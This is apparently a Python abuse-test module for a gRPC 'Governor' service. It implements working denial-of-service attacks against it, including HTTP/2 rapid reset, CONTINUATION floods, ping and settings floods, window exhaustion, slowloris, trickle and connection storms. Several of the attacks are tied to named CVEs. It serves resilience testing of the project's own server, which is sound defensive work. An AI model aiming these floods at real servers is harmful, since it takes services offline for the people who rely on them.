"""The attacks: each a function that goes on until its time is over, and says how often it did what it does.

They know how to harm. They must never know whether it does.

`python -m tests.abuse.attacks NAME ADDRESS HTTP SECONDS` is one, in a process of its own.
"""

import json
import os
import random
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import TYPE_CHECKING, Final

import grpc

from governor.v1 import governor_pb2 as pb
from governor.v1.governor_pb2_grpc import GovernorStub
from tests.abuse.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LARGEST,
    PING,
    PREFACE,
    RST_STREAM,
    WINDOW_UPDATE,
    Hostile,
    connect,
    frame,
    literal,
    message,
    request,
    settings,
)

if TYPE_CHECKING:
    import socket

_GOVERNOR: Final = "/governor.v1.Governor/"
_CANCEL: Final = struct.pack(">I", 8)
_LAST_STREAM: Final = 2**31 - 1
_BATCH: Final = 500

ASK: Final = message(pb.AcquireRequest(claims=[pb.Claim(resource="prey", permits=1)]).SerializeToString())
LIST: Final = message(b"")

Counts = dict[str, int]


class Until:
    """A time that is over at some point."""

    def __init__(self, seconds: float) -> None:
        self._end = time.monotonic() + seconds

    def __bool__(self) -> bool:
        return time.monotonic() < self._end

    @property
    def left(self) -> float:
        """Seconds."""
        return max(0.0, self._end - time.monotonic())


def calls(first: int, number: int, block: bytes, body: bytes, *, reset: bool) -> bytes:
    """So many calls in frames, from that stream on; each is taken back at once, or not."""
    parts = []
    for stream in range(first, first + 2 * number, 2):
        parts.append(frame(HEADERS, END_HEADERS, stream, block))
        if body:
            parts.append(frame(DATA, END_STREAM, stream, body))
        if reset:
            parts.append(frame(RST_STREAM, 0, stream, _CANCEL))
    return b"".join(parts)


def _resets(address: str, until: Until, block: bytes, body: bytes) -> Counts:
    done = connections = 0
    while until:
        connections += 1
        with Hostile(address) as hostile:
            first = 1
            while until and hostile.open and first + 2 * _BATCH < _LAST_STREAM:
                if hostile.say(calls(first, _BATCH, block, body, reset=True), until.left):
                    done += _BATCH
                first += 2 * _BATCH
    return {"resets": done, "connections": connections}


def rapid_reset(address: str, _http: str, until: Until) -> Counts:
    """CVE-2023-44487: calls of nothing but headers, each reset at once."""
    return _resets(address, until, request(_GOVERNOR + "Acquire"), b"")


def rapid_reset_of_asks(address: str, _http: str, until: Until) -> Counts:
    """The same with a whole ask in each, so that something is done for each that is picked up in time."""
    return _resets(address, until, request(_GOVERNOR + "Acquire"), ASK)


def rapid_reset_of_sessions(address: str, _http: str, until: Until) -> Counts:
    """The same with sessions that say hello."""
    hello = pb.Hello(client="hostile", instance="0123456789abcdef", pid=1, host="h")
    return _resets(
        address, until, request(_GOVERNOR + "Session"), message(pb.SessionRequest(hello=hello).SerializeToString())
    )


def unknown_methods(address: str, _http: str, until: Until) -> Counts:
    """Calls that nobody serves, as fast as they are refused."""
    done = 0
    while until:
        with Hostile(address) as hostile:
            first = 1
            while until and hostile.open and first < _LAST_STREAM:
                if hostile.say(calls(first, _BATCH, request("/nobody/Nothing"), LIST, reset=False), until.left):
                    done += _BATCH
                first += 2 * _BATCH
    return {"calls": done}


def header_flood(address: str, _http: str, until: Until) -> Counts:
    """CVE-2024-27316: one header block that never ends."""
    sent = connections = 0
    field = literal("x", "y" * 1000)
    while until:
        connections += 1
        with Hostile(address) as hostile:
            hostile.say(frame(HEADERS, 0, 1, request(_GOVERNOR + "Acquire")))
            chunk = frame(CONTINUATION, 0, 1, field * (LARGEST // len(field)))
            while until and hostile.open:
                hostile.say(chunk * 16, until.left)
                sent += 16
    return {"frames": sent, "connections": connections}


def empty_continuations(address: str, _http: str, until: Until) -> Counts:
    """The same with frames of nothing, which cost their sender nine bytes each."""
    sent = connections = 0
    while until:
        connections += 1
        with Hostile(address) as hostile:
            hostile.say(frame(HEADERS, 0, 1, b""))
            while until and hostile.open:
                hostile.say(frame(CONTINUATION, 0, 1) * 1000, until.left)
                sent += 1000
    return {"frames": sent, "connections": connections}


def bad_headers(address: str, _http: str, until: Until) -> Counts:
    """Calls whose metadata is larger than anybody takes."""
    done = 0
    block = request(_GOVERNOR + "Acquire", **{f"x{number}": "y" * 900 for number in range(16)})
    while until:
        with Hostile(address) as hostile:
            first = 1
            while until and hostile.open:
                hostile.say(calls(first, 50, block, ASK, reset=False), until.left)
                first += 100
                done += 50
    return {"calls": done}


def _flood(address: str, until: Until, data: bytes, *, reads: bool) -> Counts:
    sent = connections = 0
    while until:
        connections += 1
        with Hostile(address, reads=reads) as hostile:
            while until and hostile.open:
                if not hostile.say(data, min(5.0, until.left)):
                    break
                sent += 1000
    return {"frames": sent, "connections": connections}


def ping_flood(address: str, _http: str, until: Until) -> Counts:
    """CVE-2019-9512: pings, and nobody reads the answers."""
    return _flood(address, until, frame(PING, 0, 0, b"governor") * 1000, reads=False)


def settings_flood(address: str, _http: str, until: Until) -> Counts:
    """CVE-2019-9515: settings, and nobody reads that they were taken."""
    return _flood(address, until, settings() * 1000, reads=False)


def resize_flood(address: str, _http: str, until: Until) -> Counts:
    """Settings that change the window of all calls again and again, over a thousand open ones."""
    sent = 0
    while until:
        with Hostile(address) as hostile:
            hostile.say(calls(1, 1000, request(_GOVERNOR + "Session"), b"", reset=False))
            while until and hostile.open:
                hostile.say((settings(window=1000) + settings(window=2000)) * 500, until.left)
                sent += 1000
    return {"frames": sent}


def window_flood(address: str, _http: str, until: Until) -> Counts:
    """Updates of the window, a byte at a time."""
    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    return _flood(address, until, update * 1000, reads=True)


def zero_window_lists(address: str, _http: str, until: Until) -> Counts:
    """As many lists of all resources as one connection may ask for, none of which may be sent."""
    with Hostile(address, hello=PREFACE + settings(window=0)) as hostile:
        asked = 0
        while until and hostile.open and asked < 16_000:
            hostile.say(calls(1 + 2 * asked, 100, request(_GOVERNOR + "ListResources"), LIST, reset=False), until.left)
            asked += 100
        hostile.listen(until.left)
    return {"calls": asked}


def unread_lists(address: str, _http: str, until: Until) -> Counts:
    """Lists that may be sent, on connections that nobody reads."""
    wide = PREFACE + settings(window=2**31 - 1) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
    crowd: list[Hostile] = []
    asked = 0
    while until and len(crowd) < 50:
        hostile = Hostile(address, hello=wide, reads=False)
        crowd.append(hostile)
        if hostile.say(calls(1, 200, request(_GOVERNOR + "ListResources"), LIST, reset=False), min(2.0, until.left)):
            asked += 200
    time.sleep(until.left)
    still = sum(hostile.open for hostile in crowd)
    for hostile in crowd:
        hostile.close()
    return {"calls": asked, "connections": len(crowd), "open": still}


def unread_session(address: str, _http: str, until: Until) -> Counts:
    """Sessions that ask for what is refused, as fast as they are read, and never read an answer."""
    sent = begun = 0
    while until:
        hello = pb.Hello(client="hostile", instance=f"{random.getrandbits(64):016x}", pid=1, host="h")
        with Hostile(address, hello=PREFACE + settings(window=0)) as hostile:
            stream = hostile.stream()
            hostile.say(frame(HEADERS, END_HEADERS, stream, request(_GOVERNOR + "Session")))
            first = message(pb.SessionRequest(hello=hello).SerializeToString())
            more = message(pb.SessionRequest(places=range(1000)).SerializeToString())
            hostile.say(frame(DATA, 0, stream, first))
            begun += 1
            while until and hostile.open and stream not in hostile.ended:
                if not hostile.say(frame(DATA, 0, stream, more), min(1.0, until.left)):
                    break
                sent += 1
                hostile.listen(0.001)
    return {"messages": sent, "sessions": begun}


def large_messages(address: str, _http: str, until: Until) -> Counts:
    """Sessions that say as much at a time as they may, of what takes long to do, as fast as it is taken."""
    sent = Counter[str]()
    lots = {
        "cancels": pb.SessionRequest(cancels=range(10**6, 10**6 + 60_000)),
        "places": pb.SessionRequest(places=range(10**6, 10**6 + 60_000)),
        "malformed": pb.SessionRequest(acquires=[pb.SessionAcquire(op=op) for op in range(1, 40_000)]),
    }

    def say(number: int) -> Iterator[pb.SessionRequest]:
        yield pb.SessionRequest(hello=pb.Hello(client="hostile", instance=f"{number:016}", pid=1, host="h"))
        kind = list(lots)[number % len(lots)]
        while until:
            sent[kind] += 1
            yield lots[kind]

    with grpc.insecure_channel(address, (("grpc.use_local_subchannel_pool", 1),)) as channel:
        stub = GovernorStub(channel)
        sessions = [stub.Session(say(number)) for number in range(30)]
        while until:
            time.sleep(0.01)
        for session in sessions:
            session.cancel()
    return dict(sent)


def waiting_asks(address: str, _http: str, until: Until) -> Counts:
    """Asks that stand in line, as many as one connection may have, and then calls that only have begun."""
    wait = pb.AcquireRequest(claims=[pb.Claim(resource="taken", permits=1)])
    wait.wait.seconds = 30
    body = message(wait.SerializeToString())
    with Hostile(address) as hostile:
        hostile.say(calls(1, 8000, request(_GOVERNOR + "Acquire"), body, reset=False), until.left)
        hostile.say(calls(16_001, 8000, request(_GOVERNOR + "Session"), b"", reset=False), until.left)
        hostile.listen(until.left)
    return {"calls": 16_000, "answered": len(hostile.ended)}


def half_messages(address: str, _http: str, until: Until) -> Counts:
    """Calls that say that 256 KiB follow, send most of that, and then nothing."""
    part = struct.pack(">BI", 0, 262_144) + b"\x0a" * 16_000
    with Hostile(address) as hostile:
        begun = 0
        while until and hostile.open and begun < 16_000:
            stream = hostile.stream()
            hostile.say(
                frame(HEADERS, END_HEADERS, stream, request(_GOVERNOR + "Acquire")) + frame(DATA, 0, stream, part),
                min(0.5, until.left),
            )
            begun += 1
        hostile.listen(until.left)
    return {"calls": begun}


def half_open(address: str, _http: str, until: Until) -> Counts:
    """Connections that say nothing at all."""
    return _crowd(address, until, b"")


def idle(address: str, _http: str, until: Until) -> Counts:
    """Connections that say hello, answer pings, and ask nothing."""
    return _crowd(address, until, PREFACE + settings())


def half_hello(address: str, _http: str, until: Until) -> Counts:
    """Connections that say half a hello."""
    return _crowd(address, until, PREFACE[:10])


def _crowd(address: str, until: Until, hello: bytes) -> Counts:
    crowd: list[Hostile] = []
    refused = 0
    while until and len(crowd) < 3000:
        try:
            crowd.append(Hostile(address, hello=hello))
        except OSError:
            refused += 1
            time.sleep(0.01)
    while until:
        for hostile in crowd:
            if hostile.open:
                hostile.listen(0.0001)
    still = sum(hostile.open for hostile in crowd)
    for hostile in crowd:
        hostile.close()
    return {"connections": len(crowd), "open": still, "refused": refused}


def trickle(address: str, _http: str, until: Until) -> Counts:
    """Two hundred connections that send a whole ask, a byte at a time."""
    text = PREFACE + settings() + calls(1, 1, request(_GOVERNOR + "Acquire"), ASK, reset=False)
    crowd = [(Hostile(address, hello=b""), iter(text)) for _ in range(200)]
    sent = 0
    while until and crowd:
        for place, (hostile, rest) in enumerate(crowd):
            byte = next(rest, None)
            if byte is None or not hostile.open:
                hostile.close()
                crowd[place] = (Hostile(address, hello=b""), iter(text))
                continue
            hostile.say(bytes((byte,)))
            sent += 1
    for hostile, _ in crowd:
        hostile.close()
    return {"bytes": sent}


def connect_storm(address: str, _http: str, until: Until) -> Counts:
    """Connections that come and go as fast as they can."""
    made = 0
    while until:
        with suppress(OSError), connect(address) as connection:
            connection.sendall(PREFACE + settings())
            made += 1
    return {"connections": made}


def garbage(address: str, _http: str, until: Until) -> Counts:
    """Bytes that are no protocol at all, or that of another."""
    kinds = [b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", None]
    made = 0
    while until:
        with suppress(OSError), connect(address) as connection:
            kind = random.choice(kinds)
            connection.sendall(os.urandom(random.randrange(1, 5000)) if kind is None else kind)
            made += 1
    return {"connections": made}


# --- over HTTP ----------------------------------------------------------------------------------------------


def http_slow_headers(_address: str, http: str, until: Until) -> Counts:
    """Slowloris: as many connections as there can be, each with a header line now and then."""
    crowd: list[socket.socket] = []
    lines = 0
    while until:
        while len(crowd) < 300 and until:
            with suppress(OSError):
                crowd.append(connect(http))
                crowd[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n")
        for connection in list(crowd):
            try:
                connection.sendall(b"X: y\r\n")
                lines += 1
            except OSError:
                crowd.remove(connection)
                connection.close()
        time.sleep(0.05)
    for connection in crowd:
        connection.close()
    return {"lines": lines}


def http_unread(_address: str, http: str, until: Until) -> Counts:
    """Scrapes and event streams that nobody reads."""
    crowd: list[socket.socket] = []
    made = 0
    while until:
        with suppress(OSError):
            connection = connect(http)
            path = random.choice(["/metrics", "/-/events", "/"])
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 50)
            crowd.append(connection)
            made += 1
        if len(crowd) >= 200:
            crowd.pop(0).close()
        time.sleep(0.002)
    for connection in crowd:
        connection.close()
    return {"connections": made}


def http_bodies(_address: str, http: str, until: Until) -> Counts:
    """Bodies that nobody asked for, and that never end."""
    sent = 0
    while until:
        with suppress(OSError), connect(http) as connection:
            connection.settimeout(1)
            connection.sendall(b"POST /metrics HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n")
            while until:
                connection.sendall(b"10000\r\n" + b"x" * 65_536 + b"\r\n")
                sent += 65_536
    return {"bytes": sent}


def http_scrapes(_address: str, http: str, until: Until) -> Counts:
    """Whole scrapes, as fast as they are answered, over one connection."""
    done = 0
    while until:
        with suppress(OSError), connect(http) as connection:
            while until:
                connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 10)
                while until and connection.recv(1_000_000):
                    done += 1
    return {"reads": done}


ATTACKS: Final[dict[str, Callable[[str, str, Until], Counts]]] = {
    each.__name__: each
    for each in (
        rapid_reset,
        rapid_reset_of_asks,
        rapid_reset_of_sessions,
        unknown_methods,
        header_flood,
        empty_continuations,
        bad_headers,
        ping_flood,
        settings_flood,
        resize_flood,
        window_flood,
        zero_window_lists,
        unread_lists,
        unread_session,
        large_messages,
        waiting_asks,
        half_messages,
        half_open,
        half_hello,
        idle,
        trickle,
        connect_storm,
        garbage,
        http_slow_headers,
        http_unread,
        http_bodies,
        http_scrapes,
    )
}


def main() -> int:
    """One attack; what it did, as JSON."""
    name, address, http, seconds = sys.argv[1:]
    print(json.dumps(ATTACKS[name](address, http, Until(float(seconds)))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
